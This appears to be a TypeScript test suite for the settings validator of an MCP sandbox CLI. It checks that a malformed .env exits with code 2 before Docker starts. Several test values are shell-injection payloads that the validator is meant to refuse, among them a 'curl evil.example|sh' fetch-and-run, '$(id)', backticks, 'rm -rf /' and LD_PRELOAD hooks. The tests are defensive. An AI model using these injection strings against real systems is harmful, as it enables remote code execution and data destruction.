import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { UsageError } from '../../package_scripts/errors.js';
import { loadSettings } from '../../package_scripts/settings/load.js';

/**
 * The real CLI, run as a child process with a fake `docker` first on PATH. A bad
 * .env must exit 2 with a message naming the variable (and the fix), before
 * any docker process starts: the fake docker leaves a marker file when run.
 * Rules decided by the settings module alone are also checked in process with
 * loadSettings (the same file reading and validation, without a spawn each).
 */

/** dist/test/unit/settings.test.js -> the repository root. */
const repoRoot = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
const cli = join(repoRoot, 'dist', 'package_scripts', 'main.js');

const TOKEN = 'c0ffee00'.repeat(8); // 64 hex characters
const OK = `ACCESS_TOKEN=${TOKEN}\n`;

const root = mkdtempSync(join(tmpdir(), 'mcp-settings-test-'));
after(() => rmSync(root, { recursive: true, force: true }));

interface Sandbox {
  dir: string;
  envFile: string;
  marker: string;
  /** Where the fake docker writes the ACCESS_TOKEN it received in its environment (run only). */
  tokenSeen: string;
  env: Record<string, string>;
}

let counter = 0;
/** A folder with a fake docker on PATH, its own HOME, and (optionally) a .env. */
function sandbox(envContent?: string): Sandbox {
  counter += 1;
  const dir = join(root, `case-${counter}`);
  const bin = join(dir, 'bin');
  const home = join(dir, 'home');
  mkdirSync(bin, { recursive: true });
  mkdirSync(home);
  const marker = join(dir, 'docker-was-run');
  const tokenSeen = join(dir, 'token-seen');
  writeFileSync(
    join(bin, 'docker'),
    ['#!/bin/sh', `printf '%s\\n' "$*" >> '${marker}'`, `if [ "$1" = run ]; then printf '%s' "$ACCESS_TOKEN" > '${tokenSeen}'; fi`, 'exit 0', ''].join('\n'),
    { mode: 0o755 },
  );
  const envFile = join(dir, '.env');
  if (envContent !== undefined) writeFileSync(envFile, envContent);
  // Only PATH and HOME: nothing else of this process's environment (NODE_EXTRA_CA_CERTS in particular) leaks in.
  return { dir, envFile, marker, tokenSeen, env: { PATH: `${bin}:${process.env.PATH ?? '/usr/bin:/bin'}`, HOME: home } };
}

interface Result {
  code: number | null;
  stdout: string;
  stderr: string;
}

/**
 * Node 20 scans its whole command line, even past the script name, for
 * `--env-file` and exits 9 ("node: FILE: not found") before the CLI runs when
 * that file is missing. A `--` before the script stops the scan, so the cases
 * about a missing env file use it to reach the CLI's own check.
 */
function runCli(args: string[], box: Sandbox, extraEnv: Record<string, string> = {}, nodeArgs: string[] = []): Promise<Result> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [...nodeArgs, cli, ...args], {
      cwd: box.dir,
      env: { ...box.env, ...extraEnv },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), 15_000);
    child.on('error', fail);
    child.on('close', (code) => {
      clearTimeout(timer);
      done({ code, stdout, stderr });
    });
  });
}

interface BadCase {
  name: string;
  /** The .env content; undefined writes no file. */
  env?: string;
  command?: 'start' | 'build';
  /** More arguments after `COMMAND --env-file FILE`. */
  extraArgs?: string[];
  /**
   * The env file to pass instead of the sandbox's .env (relative to the sandbox folder).
   * It does not exist: see nodeArgs below for why those cases run `node -- main.js`.
   */
  envFileName?: string;
  setup?: (dir: string) => void;
  childEnv?: Record<string, string>;
  /**
   * Check with loadSettings in this process instead of spawning the CLI: for
   * the rules that only the settings module decides (keeps the suite fast).
   */
  inProcess?: boolean;
  /** Substrings stderr must hold; a function receives the sandbox folder. */
  expect: string[] | ((dir: string) => string[]);
}

const NPM_MCP_UNSAFE = 'NPM_MCP may hold only npm:NAME[@VERSION], pypi:REQUIREMENT or a path: no spaces, quotes, newlines or shell characters';
const GEN_KEY = 'npm run gen_key';
const PORT = 'HOST_PORT must be a port number from 1 to 65535';

const BAD_CASES: BadCase[] = [
  // .env is data: command substitution would run while dotenvx reads the file
  {
    name: '$(command) in a value is refused before anything runs',
    env: `${OK}NPM_MCP_ARGS=$(touch ran-a-command)\n`,
    expect: (dir) => ['line 2: "$(" would run a command while the file is read', `${dir}`],
    setup: () => undefined,
  },
  {
    name: 'MCP_ENV naming a loader hook (LD_PRELOAD)',
    env: `${OK}LD_PRELOAD=/workspace/rw/x.so\nMCP_ENV=LD_PRELOAD\n`,
    expect: ['MCP_ENV lists LD_PRELOAD, which makes a loader, shell or interpreter run code of its choosing', 'Remove it from MCP_ENV'],
  },
  {
    name: 'MCP_ENV naming an interpreter hook (NODE_OPTIONS)',
    env: `${OK}NODE_OPTIONS=--max-old-space-size=512\nMCP_ENV=NODE_OPTIONS\n`,
    expect: ['MCP_ENV lists NODE_OPTIONS, which makes a loader', 'MCP_SERVER_ARGS'],
  },
  {
    name: 'MCP_ENV naming a setting (MCP_EGRESS)',
    env: `${OK}MCP_EGRESS=\nMCP_ENV=MCP_EGRESS\n`,
    expect: ['MCP_ENV lists MCP_EGRESS, which is an mcp-sandbox setting'],
  },
  { name: 'MCP_MEMORY=0 (no limit to Docker)', env: `${OK}MCP_MEMORY=0\n`, expect: ['MCP_MEMORY must be at least 64m'] },
  // The seccomp profile: checked before docker runs (the CLI reads the file; a broken one must not reach the engine)
  {
    name: 'MCP_SECCOMP_PROFILE naming a missing file',
    env: `${OK}MCP_SECCOMP_PROFILE=./nowhere.json\n`,
    expect: (dir) => [`MCP_SECCOMP_PROFILE: cannot read ${join(dir, 'nowhere.json')} (ENOENT)`, 'git checkout profiles/seccomp.json'],
  },
  {
    name: 'MCP_SECCOMP_PROFILE naming a file that is not JSON',
    env: `${OK}MCP_SECCOMP_PROFILE=./broken.json\n`,
    setup: (dir) => writeFileSync(join(dir, 'broken.json'), '{"defaultAction": "SCMP_ACT_ERRNO",'),
    expect: ['MCP_SECCOMP_PROFILE:', 'broken.json is not JSON'],
  },
  {
    name: 'MCP_SECCOMP_PROFILE that allows by default',
    inProcess: true,
    env: `${OK}MCP_SECCOMP_PROFILE=./allow-all.json\n`,
    setup: (dir) =>
      writeFileSync(
        join(dir, 'allow-all.json'),
        JSON.stringify({ defaultAction: 'SCMP_ACT_ALLOW', syscalls: [{ names: ['read'], action: 'SCMP_ACT_ALLOW' }] }),
      ),
    expect: ['has defaultAction "SCMP_ACT_ALLOW": a sandbox profile must refuse what it does not list'],
  },
  {
    name: 'MCP_SECCOMP_PROFILE=unconfined',
    inProcess: true,
    env: `${OK}MCP_SECCOMP_PROFILE=unconfined\n`,
    expect: ['MCP_SECCOMP_PROFILE: cannot read', 'unconfined (ENOENT)'],
  },
  {
    name: 'MCP_SECCOMP_PROFILE with a rule without names',
    inProcess: true,
    env: `${OK}MCP_SECCOMP_PROFILE=./odd.json\n`,
    setup: (dir) => writeFileSync(join(dir, 'odd.json'), JSON.stringify({ defaultAction: 'SCMP_ACT_ERRNO', syscalls: [{ action: 'SCMP_ACT_ALLOW' }] })),
    expect: ['has a malformed rule at syscalls[0]'],
  },
  { name: 'MCP_INSTALL_SCRIPTS=no', command: 'build', env: `${OK}MCP_INSTALL_SCRIPTS=no\n`, expect: ['MCP_INSTALL_SCRIPTS must be true', 'or false'] },
  // MCP_SERVER (more cases in server.test.ts)
  {
    name: 'MCP_SERVER with a space',
    env: `${OK}MCP_SERVER=pypi:mcp-server-fetch --ignore-robots-txt\n`,
    expect: ['MCP_SERVER may hold only', 'Put server arguments in MCP_SERVER_ARGS'],
  },
  {
    name: 'MCP_SERVER with an unknown scheme',
    command: 'build',
    env: `${OK}MCP_SERVER=git:server\n`,
    expect: ["MCP_SERVER 'git:server' has the unknown scheme 'git:'"],
  },
  {
    name: 'MCP_SERVER naming a folder that is no package',
    command: 'build',
    env: `${OK}MCP_SERVER=./empty\n`,
    setup: (dir) => mkdirSync(join(dir, 'empty')),
    expect: ['has neither package.json (npm) nor pyproject.toml or setup.py (Python)'],
  },
  { name: 'MCP_SERVER and NPM_MCP both set', command: 'build', env: `${OK}MCP_SERVER=npm:a\nNPM_MCP=b\n`, expect: ['Both MCP_SERVER and NPM_MCP are set'] },
  {
    name: 'MCP_SERVER_ARGS and NPM_MCP_ARGS set differently',
    inProcess: true,
    env: `${OK}MCP_SERVER_ARGS=/a\nNPM_MCP_ARGS=/b\n`,
    expect: ['Both MCP_SERVER_ARGS and NPM_MCP_ARGS are set'],
  },
  {
    name: 'PIP_INDEX_URL with credentials',
    command: 'build',
    env: `${OK}PIP_INDEX_URL=https://me:secret@pypi.example.com/simple\n`,
    expect: ['PIP_INDEX_URL must be an index URL', 'without user:password@'],
  },
  {
    name: 'a Python folder with MCP_INSTALL_SCRIPTS=false',
    inProcess: true,
    env: `${OK}MCP_SERVER=./py\nMCP_INSTALL_SCRIPTS=false\n`,
    setup: (dir) => {
      mkdirSync(join(dir, 'py'));
      writeFileSync(join(dir, 'py', 'pyproject.toml'), '');
    },
    expect: ['must be built', 'give a wheel (.whl) instead'],
  },
  // The CLI reads MCP_EGRESS with the container's own grammar (grammar.cjs): what passes here is what the container enforces.
  {
    name: 'MCP_EGRESS with a /prefix on a host name',
    inProcess: true,
    env: `${OK}MCP_EGRESS=example.com/24\n`,
    expect: ["MCP_EGRESS entry 'example.com/24' puts a /prefix on a name"],
  },
  {
    name: 'MCP_EGRESS with a prefix beyond /32',
    inProcess: true,
    env: `${OK}MCP_EGRESS=10.0.0.0/33\n`,
    expect: ['MCP_EGRESS is open, none, learn, or a comma-separated list'],
  },
  {
    name: 'MCP_EGRESS with a wildcard over a public suffix',
    inProcess: true,
    env: `${OK}MCP_EGRESS=*.com\n`,
    expect: ["MCP_EGRESS entry '*.com' is a wildcard over the public suffix com", 'list the names'],
  },
  { name: 'MCP_EGRESS with a trailing dot', inProcess: true, env: `${OK}MCP_EGRESS=api.example.com.\n`, expect: ['ends with a dot: write api.example.com'] },
  // TEMPLATE
  { name: 'unknown TEMPLATE', env: `${OK}TEMPLATE=apache\n`, expect: ['TEMPLATE must be one of nginx, ngrok, pinggy'] },
  // Tunnel templates: their required settings, checked by the gateway's own module
  {
    name: 'TEMPLATE=ngrok without NGROK_AUTHTOKEN',
    env: `${OK}TEMPLATE=ngrok\n`,
    expect: ['TEMPLATE=ngrok: NGROK_AUTHTOKEN is not set', 'dashboard.ngrok.com'],
  },
  {
    name: '--template pinggy without PINGGY_ACCESS_TOKEN',
    env: OK,
    extraArgs: ['--template', 'pinggy'],
    expect: ['TEMPLATE=pinggy: PINGGY_ACCESS_TOKEN is not set'],
  },
  {
    name: 'TEMPLATE=pinggy without a bearer token (neither PINGGY_BEARER_TOKEN nor ACCESS_TOKEN)',
    inProcess: true,
    env: 'TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=tok3n\n',
    expect: ['PINGGY_BEARER_TOKEN (or ACCESS_TOKEN) is not set', 'npm run gen_key'],
  },
  {
    name: 'PINGGY_HOST_KEY that is not a key line',
    inProcess: true,
    env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_HOST_KEY=abc\n`,
    expect: ['PINGGY_HOST_KEY must be a public key line'],
  },
  {
    name: "PINGGY_ACCESS_TOKEN with a '+tcp' mode suffix",
    inProcess: true,
    env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=tok3n+tcp\n`,
    expect: ["PINGGY_ACCESS_TOKEN holds a '+' part, which Pinggy reads as a tunnel mode", "Set the token alone, without '+...'"],
  },
  {
    name: 'PINGGY_PORT out of range',
    inProcess: true,
    env: `${OK}TEMPLATE=pinggy\nPINGGY_ACCESS_TOKEN=t\nPINGGY_PORT=70000\n`,
    expect: ['PINGGY_PORT must be a port number'],
  },
  {
    name: 'NGROK_BASIC_AUTH with a short password',
    inProcess: true,
    env: `TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_BASIC_AUTH=me:short\n`,
    expect: ['NGROK_BASIC_AUTH: ngrok wants a password of 8 to 128 characters'],
  },
  {
    name: 'TEMPLATE=ngrok without ACCESS_TOKEN or NGROK_BASIC_AUTH',
    inProcess: true,
    env: 'TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\n',
    expect: ['ACCESS_TOKEN must be 32 to 256 hex characters', 'or set NGROK_BASIC_AUTH'],
  },
  {
    name: 'NGROK_OAUTH_ALLOW_EMAILS without a provider',
    inProcess: true,
    env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_OAUTH_ALLOW_EMAILS=me@example.com\n`,
    expect: ['need NGROK_OAUTH_PROVIDER'],
  },
  {
    name: 'NGROK_ALLOW_CIDRS with a host name',
    inProcess: true,
    env: `${OK}TEMPLATE=ngrok\nNGROK_AUTHTOKEN=abc_123\nNGROK_ALLOW_CIDRS=example.com\n`,
    expect: ["NGROK_ALLOW_CIDRS entry 'example.com' is not an address or CIDR"],
  },
  {
    name: 'MCP_ENV naming PINGGY_BASIC_AUTH',
    inProcess: true,
    env: `${OK}PINGGY_BASIC_AUTH=a:b\nMCP_ENV=PINGGY_BASIC_AUTH\n`,
    expect: ['MCP_ENV lists PINGGY_BASIC_AUTH, a gateway secret'],
  },
  // NPM_MCP
  { name: 'NPM_MCP with a space', env: `${OK}NPM_MCP=@scope/server --port 3000\n`, expect: [NPM_MCP_UNSAFE, 'Put server arguments in MCP_SERVER_ARGS'] },
  { name: 'NPM_MCP with ;', env: `${OK}NPM_MCP=server-x;curl evil.example|sh\n`, expect: [NPM_MCP_UNSAFE, 'MCP_SERVER_ARGS'] },
  { name: 'NPM_MCP with $(', env: `${OK}NPM_MCP='server-x$(id)'\n`, expect: [NPM_MCP_UNSAFE] },
  { name: 'NPM_MCP with a backtick', env: `${OK}NPM_MCP=server-x\`id\`\n`, expect: [NPM_MCP_UNSAFE] },
  { name: 'NPM_MCP with a newline', env: `${OK}NPM_MCP="server-x\\nrm -rf /"\n`, expect: [NPM_MCP_UNSAFE] },
  { name: 'NPM_MCP with a quote', inProcess: true, env: `${OK}NPM_MCP=server-x"y\n`, expect: [NPM_MCP_UNSAFE] },
  { name: 'NPM_MCP empty', inProcess: true, env: `${OK}NPM_MCP=\n`, expect: ['NPM_MCP is empty: name an npm package'] },
  {
    name: 'NPM_MCP not a package spec',
    inProcess: true,
    env: `${OK}NPM_MCP=Server_X\n`,
    expect: ["NPM_MCP 'npm:Server_X': 'Server_X' is not an npm package name"],
  },
  {
    name: 'NPM_MCP pointing at a missing local folder',
    env: `${OK}NPM_MCP=./missing-server\n`,
    expect: (dir) => [`NPM_MCP names ${join(dir, 'missing-server')}, which does not exist`, 'fix the path'],
  },
  {
    name: 'NPM_MCP pointing at a folder without package.json',
    inProcess: true,
    env: `${OK}NPM_MCP=./not-a-package\n`,
    setup: (dir) => mkdirSync(join(dir, 'not-a-package')),
    expect: (dir) => [`NPM_MCP names the folder ${join(dir, 'not-a-package')}, which has no package.json`],
  },
  {
    name: 'NPM_MCP pointing at a file that is not a .tgz',
    inProcess: true,
    env: `${OK}NPM_MCP=./server.zip\n`,
    setup: (dir) => writeFileSync(join(dir, 'server.zip'), 'zip'),
    expect: ['NPM_MCP names the file', 'only a .tgz made by `npm pack` is accepted'],
  },
  { name: 'NPM_MCP_ARGS with a newline', inProcess: true, env: `${OK}NPM_MCP_ARGS="/workspace\\n--evil"\n`, expect: ['MCP_SERVER_ARGS must be on one line'] },
  // ACCESS_TOKEN
  { name: 'missing ACCESS_TOKEN', env: 'NAME=mcp-test\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
  { name: 'empty ACCESS_TOKEN', inProcess: true, env: 'ACCESS_TOKEN=\n', expect: ['ACCESS_TOKEN is missing', GEN_KEY] },
  {
    name: 'the placeholder secret_key__please_change',
    env: 'ACCESS_TOKEN=secret_key__please_change\n',
    expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY],
  },
  { name: 'a 31-hex-char token', env: `ACCESS_TOKEN=${'a'.repeat(31)}\n`, expect: ['ACCESS_TOKEN is 31 hex characters, fewer than 32', GEN_KEY] },
  { name: 'a non-hex token', env: `ACCESS_TOKEN=${'z'.repeat(64)}\n`, expect: ['ACCESS_TOKEN must be hexadecimal', GEN_KEY] },
  {
    name: 'a token over 256 hex chars',
    inProcess: true,
    env: `ACCESS_TOKEN=${'a'.repeat(258)}\n`,
    expect: ['ACCESS_TOKEN is longer than 256 hex characters', GEN_KEY],
  },
  {
    name: 'NGINX_ACCESS_TOKEN alias with a short value',
    env: 'NGINX_ACCESS_TOKEN=abcd1234\n',
    expect: ['ACCESS_TOKEN is 8 hex characters, fewer than 32', GEN_KEY],
  },
  // HOST_PORT, BIND_ADDRESS, NAME
  { name: 'HOST_PORT=0', env: `${OK}HOST_PORT=0\n`, expect: [PORT] },
  { name: 'HOST_PORT=70000', env: `${OK}HOST_PORT=70000\n`, expect: [PORT] },
  { name: 'HOST_PORT=abc', env: `${OK}HOST_PORT=abc\n`, expect: [PORT] },
  {
    name: 'BIND_ADDRESS=localhost',
    env: `${OK}BIND_ADDRESS=localhost\n`,
    expect: ['BIND_ADDRESS must be an IP address', '127.0.0.1 keeps the server on this machine'],
  },
  { name: 'BIND_ADDRESS=256.1.1.1', inProcess: true, env: `${OK}BIND_ADDRESS=256.1.1.1\n`, expect: ['BIND_ADDRESS must be an IP address'] },
  { name: 'NAME in uppercase', env: `${OK}NAME=MyServer\n`, expect: ['NAME must be lowercase letters, digits'] },
  { name: 'NAME with a space', env: `${OK}NAME="my server"\n`, expect: ['NAME must be lowercase letters, digits'] },
  // Files
  {
    name: 'missing env file',
    envFileName: 'nonexistent.env',
    expect: (dir) => [`The env file ${join(dir, 'nonexistent.env')} does not exist`, 'npm run up', '--env-file PATH'],
  },
  {
    name: 'EXTRA_CA_CERT pointing to a missing file',
    env: `${OK}EXTRA_CA_CERT=./missing-ca.pem\n`,
    expect: (dir) => [`EXTRA_CA_CERT names ${join(dir, 'missing-ca.pem')}, which does not exist`, 'leave it empty'],
  },
  {
    name: 'NODE_EXTRA_CA_CERTS from the shell pointing to a missing file',
    env: OK,
    childEnv: { NODE_EXTRA_CA_CERTS: '/nonexistent/mcp-sandbox-test-ca.pem' },
    expect: ['NODE_EXTRA_CA_CERTS (from your shell) names /nonexistent/mcp-sandbox-test-ca.pem, which does not exist'],
  },
  // Logging and limits
  { name: 'bad LOG_LEVEL', env: `${OK}LOG_LEVEL=verbose\n`, expect: ['LOG_LEVEL must be info (default: no message bodies), debug (everything) or none'] },
  {
    name: 'bad MCP_EGRESS',
    env: `${OK}MCP_EGRESS=http://example.com\n`,
    expect: ["MCP_EGRESS entry 'http://example.com' is a URL", 'MCP_EGRESS is open, none, learn, or a comma-separated list'],
  },
  { name: 'bad MCP_MEMORY', env: `${OK}MCP_MEMORY=lots\n`, expect: ['MCP_MEMORY must be a size such as 512m or 1g'] },
  { name: 'MCP_CPUS=0', inProcess: true, env: `${OK}MCP_CPUS=0\n`, expect: ['MCP_CPUS must be a number of CPUs above 0'] },
  { name: 'MCP_PIDS below 32', inProcess: true, env: `${OK}MCP_PIDS=8\n`, expect: ['MCP_PIDS must be a whole number of at least 32'] },
  {
    name: 'MCP_TMP_SIZE not a size',
    inProcess: true,
    env: `${OK}MCP_TMP_SIZE=lots\n`,
    expect: ['MCP_TMP_SIZE must be a size of at least 16m such as 64m or 512m'],
  },
  { name: 'MCP_TMP_SIZE below 16m', inProcess: true, env: `${OK}MCP_TMP_SIZE=8m\n`, expect: ['MCP_TMP_SIZE must be a size of at least 16m'] },
  {
    name: 'MCP_TMP_SIZE above MCP_MEMORY',
    env: `${OK}MCP_MEMORY=512m\nMCP_TMP_SIZE=1g\n`,
    expect: ['MCP_TMP_SIZE=1g is more than MCP_MEMORY=512m', 'count against MCP_MEMORY', 'Lower MCP_TMP_SIZE or raise MCP_MEMORY'],
  },
  {
    name: 'MCP_SESSION_IDLE not a duration',
    env: `${OK}MCP_SESSION_IDLE=soon\n`,
    expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h, such as 300, 300s, 5m or 1h'],
  },
  { name: 'MCP_SESSION_IDLE below 10 s', inProcess: true, env: `${OK}MCP_SESSION_IDLE=5s\n`, expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h'] },
  { name: 'MCP_SESSION_IDLE above 24 h', inProcess: true, env: `${OK}MCP_SESSION_IDLE=25h\n`, expect: ['MCP_SESSION_IDLE must be a duration from 10s to 24h'] },
  {
    name: 'MCP_MAX_SESSIONS=0',
    env: `${OK}MCP_MAX_SESSIONS=0\n`,
    expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024', 'leave it empty for a default sized to MCP_MEMORY and MCP_PIDS'],
  },
  {
    name: 'MCP_MAX_SESSIONS not a number',
    inProcess: true,
    env: `${OK}MCP_MAX_SESSIONS=many\n`,
    expect: ['MCP_MAX_SESSIONS must be a whole number from 1 to 1024'],
  },
  {
    name: 'SUPERGATEWAY_EXTRA_ARGS set (no longer read)',
    env: `${OK}SUPERGATEWAY_EXTRA_ARGS=--no-stateful\n`,
    expect: ['SUPERGATEWAY_EXTRA_ARGS is no longer read', 'MCP_SESSION_IDLE and MCP_MAX_SESSIONS'],
  },
  { name: 'bad NODE_VERSION', inProcess: true, env: `${OK}NODE_VERSION=latest\n`, expect: ['NODE_VERSION must be a Node.js version'] },
  { name: 'bad ALLOWED_ORIGINS', inProcess: true, env: `${OK}ALLOWED_ORIGINS=*\n`, expect: ['ALLOWED_ORIGINS must be a comma-separated list of origins'] },
  {
    name: 'bad TLS_HOSTNAMES',
    inProcess: true,
    env: `${OK}TLS_HOSTNAMES=my-host\n`,
    expect: ['TLS_HOSTNAMES must be a comma-separated list of DNS:name or IP:address'],
  },
  // MCP_MOUNTS
  {
    name: 'MCP_MOUNTS of /',
    env: `${OK}MCP_MOUNTS=/:/host\n`,
    expect: ["MCP_MOUNTS entry '/:/host' is refused: it is the whole host filesystem", '--allow-dangerous-mounts'],
  },
  {
    name: 'MCP_MOUNTS of the home folder',
    inProcess: true,
    env: `${OK}MCP_MOUNTS=~/:/home-data\n`,
    expect: ['MCP_MOUNTS entry', 'your whole home folder', '--allow-dangerous-mounts'],
  },
  {
    name: 'MCP_MOUNTS of the project folder',
    env: `${OK}MCP_MOUNTS=${repoRoot}:/src\n`,
    expect: ['MCP_MOUNTS entry', 'the mcp-sandbox project folder', '--allow-dangerous-mounts'],
  },
  {
    name: 'MCP_MOUNTS of a folder holding the Docker socket path',
    inProcess: true,
    env: `${OK}MCP_MOUNTS=/run:/hostrun\n`,
    expect: ['MCP_MOUNTS entry', 'Docker socket'],
  },
  {
    name: 'MCP_MOUNTS of a missing path',
    env: `${OK}MCP_MOUNTS=./nope:/workspace\n`,
    expect: (dir) => ["MCP_MOUNTS entry './nope:/workspace'", `${join(dir, 'nope')} does not exist`],
  },
  {
    name: 'MCP_MOUNTS with a bad mode',
    env: `${OK}MCP_MOUNTS=./data:/workspace:rx\n`,
    setup: (dir) => mkdirSync(join(dir, 'data')),
    expect: ["MCP_MOUNTS entry './data:/workspace:rx': the mode must be ro or rw, not 'rx'"],
  },
  {
    name: 'MCP_MOUNTS onto a sandbox folder',
    inProcess: true,
    env: `${OK}MCP_MOUNTS=./data:/opt/sandbox\n`,
    setup: (dir) => mkdirSync(join(dir, 'data')),
    expect: ['MCP_MOUNTS entry', '/opt/sandbox belongs to the sandbox'],
  },
  {
    name: 'MCP_MOUNTS without a container path',
    inProcess: true,
    env: `${OK}MCP_MOUNTS=./data\n`,
    expect: ["MCP_MOUNTS entry './data' must be host:container"],
  },
  // MCP_ENV
  {
    name: 'MCP_ENV naming ACCESS_TOKEN',
    env: `${OK}MCP_ENV=ACCESS_TOKEN\n`,
    expect: ['MCP_ENV lists ACCESS_TOKEN, a gateway secret', 'Remove it from MCP_ENV'],
  },
  {
    name: 'MCP_ENV naming NGINX_ACCESS_TOKEN',
    inProcess: true,
    env: `NGINX_ACCESS_TOKEN=${TOKEN}\nMCP_ENV=GH,NGINX_ACCESS_TOKEN\nGH=x\n`,
    expect: ['MCP_ENV lists NGINX_ACCESS_TOKEN, a gateway secret', 'Remove it from MCP_ENV'],
  },
  {
    name: 'MCP_ENV naming an undefined variable',
    env: `${OK}MCP_ENV=GITHUB_TOKEN\n`,
    expect: (dir) => [`MCP_ENV lists GITHUB_TOKEN, but ${join(dir, '.env')} does not define it`, 'add GITHUB_TOKEN=... to the env file'],
  },
  { name: 'MCP_ENV not a list of names', inProcess: true, env: `${OK}MCP_ENV=A B\n`, expect: ['MCP_ENV must be a comma-separated list of variable names'] },
  // Several at once: the per-variable problems are reported together (the token
  // check runs once every variable parses, so it is not among them here).
  {
    name: 'several bad variables at once',
    inProcess: true,
    env: `${OK}HOST_PORT=0\nLOG_LEVEL=loud\nNAME=Bad Name\n`,
    expect: [PORT, 'LOG_LEVEL must be info', 'NAME must be lowercase'],
  },
  // AUTH=oauth
  { name: 'AUTH neither bearer nor oauth', env: `${OK}AUTH=sso\n`, expect: ['AUTH must be bearer', 'or oauth'] },
  {
    name: 'OAUTH_OWNER_PASSPHRASE shorter than 12 characters',
    inProcess: true,
    env: `${OK}AUTH=oauth\nOAUTH_OWNER_PASSPHRASE=short\n`,
    expect: ['OAUTH_OWNER_PASSPHRASE must be at least 12 characters'],
  },
  {
    name: 'OAUTH_ACCESS_TTL below 5s',
    inProcess: true,
    env: `${OK}AUTH=oauth\nOAUTH_ACCESS_TTL=2\n`,
    expect: ['OAUTH_ACCESS_TTL must be a duration from 5s to 24h'],
  },
  {
    name: 'OAUTH_CIMD_ALLOW with a URL instead of a host name (the auth gateway module says why)',
    inProcess: true,
    env: `${OK}AUTH=oauth\nOAUTH_CIMD_ALLOW=docs.corp.example,https://other.example\n`,
    expect: ["OAUTH_CIMD_ALLOW entry 'https://other.example' is not a host name (optionally with :PORT) or a network"],
  },
  {
    name: 'AUTH=oauth on a tunnel without ACCESS_TOKEN (the container checks it, and the consent page takes it)',
    inProcess: true,
    env: 'TEMPLATE=pinggy\nAUTH=oauth\nPINGGY_ACCESS_TOKEN=tok3n\n',
    expect: ['ACCESS_TOKEN is missing'],
  },
  {
    name: 'AUTH=oauth with NGROK_BASIC_AUTH',
    inProcess: true,
    env: `TEMPLATE=ngrok\nAUTH=oauth\n${OK}NGROK_AUTHTOKEN=abc\nNGROK_BASIC_AUTH=me:long-enough\n`,
    expect: ['AUTH=oauth and NGROK_BASIC_AUTH cannot be used together'],
  },
  // Bad options
  { name: 'start --timeout abc', env: OK, extraArgs: ['--timeout', 'abc'], expect: ['--timeout must be a number of seconds'] },
  { name: 'start with an unknown option', env: OK, extraArgs: ['--bogus'], expect: ["unknown option '--bogus'"] },
  // build validates the same .env before staging or running anything
  // A build needs no runtime secret (see 'build needs no runtime secret' below); start checks them.
  {
    name: 'start: the placeholder token',
    env: 'ACCESS_TOKEN=secret_key__please_change\n',
    expect: ['ACCESS_TOKEN still holds the example placeholder', GEN_KEY],
  },
  { name: 'build: NPM_MCP with ;', command: 'build', env: `${OK}NPM_MCP=a;b\n`, expect: [NPM_MCP_UNSAFE] },
  {
    name: 'build: NPM_MCP pointing at a missing local folder',
    command: 'build',
    env: `${OK}NPM_MCP=../elsewhere/server\n`,
    expect: (dir) => [`NPM_MCP names ${join(dir, '..', 'elsewhere', 'server')}, which does not exist`],
  },
  {
    name: 'build: missing env file',
    command: 'build',
    envFileName: 'missing/.env',
    expect: (dir) => [`The env file ${join(dir, 'missing', '.env')} does not exist`, 'npm run up'],
  },
  {
    name: 'build: MCP_SYSTEM_PACKAGES with an apt option',
    command: 'build',
    env: `${OK}MCP_SYSTEM_PACKAGES=chromium,-o=APT::Get::AllowUnauthenticated=1\n`,
    expect: [
      'MCP_SYSTEM_PACKAGES must be a comma-separated list of Debian package names such as chromium,procps',
      "'-o=APT::Get::AllowUnauthenticated=1' is not one",
    ],
  },
  {
    name: 'build: MCP_BUILD_PACKAGES with a version pin',
    command: 'build',
    env: `${OK}MCP_BUILD_PACKAGES=g++=4:12.2.0-3\n`,
    expect: ['MCP_BUILD_PACKAGES must be a comma-separated list of Debian package names such as python3,make,g++', "'g++=4:12.2.0-3' is not one"],
  },
  { name: 'build: --tag with a space', command: 'build', env: OK, extraArgs: ['--tag', 'bad tag'], expect: ['--tag must be a Docker tag'] },
  { name: 'build: bad --platform', command: 'build', env: OK, extraArgs: ['--platform', 'arm64'], expect: ['--platform must look like linux/amd64'] },
];

const CLI_CASES = BAD_CASES.filter((c) => !c.inProcess);
const LOAD_CASES = BAD_CASES.filter((c) => c.inProcess);

describe('bad settings through the CLI: exit 2, a message naming the variable, and no docker process', { concurrency: 4 }, () => {
  it('the table holds at least 24 CLI cases', () => {
    assert.ok(CLI_CASES.length >= 24, `${CLI_CASES.length} cases`);
    assert.equal(new Set(BAD_CASES.map((c) => c.name)).size, BAD_CASES.length, 'case names are unique');
  });

  for (const c of CLI_CASES) {
    it(c.name, async () => {
      const box = sandbox(c.env);
      c.setup?.(box.dir);
      const envFile = c.envFileName ? join(box.dir, c.envFileName) : box.envFile;
      const result = await runCli([c.command ?? 'start', '--env-file', envFile, ...(c.extraArgs ?? [])], box, c.childEnv, c.envFileName ? ['--'] : []);
      const expected = typeof c.expect === 'function' ? c.expect(box.dir) : c.expect;
      const context = `\nstdout: ${result.stdout}\nstderr: ${result.stderr}`;
      assert.equal(result.code, 2, `exit code${context}`);
      for (const text of expected) assert.ok(result.stderr.includes(text), `stderr should contain ${JSON.stringify(text)}${context}`);
